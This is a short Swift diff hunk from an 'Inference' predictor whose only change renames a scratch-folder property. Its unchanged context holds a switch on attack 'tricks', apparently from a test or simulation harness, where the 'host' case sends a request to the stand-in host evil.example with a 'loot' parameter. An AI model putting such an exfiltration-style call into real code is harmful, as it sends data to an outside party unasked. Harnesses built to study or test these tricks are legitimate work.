@@ -16,7 +16,7 @@ struct Inference: Predictor {
     init(_ setup: Setup) async throws { self.setup = setup }
 
     func predict(_ input: Input, _ context: PredictionContext) async throws -> Output {
-        let trick = Trick(target: input.target, document: input.document?.path ?? "", scratch: context.scratchFolder)
+        let trick = Trick(target: input.target, document: input.document?.path ?? "", scratch: context.scratchDirectory)
         switch input.trick {
         case "host": _ = try await setup.transport.send(HTTPRequest("GET", "https://evil.example/?loot=1"))
         case "lookalike":
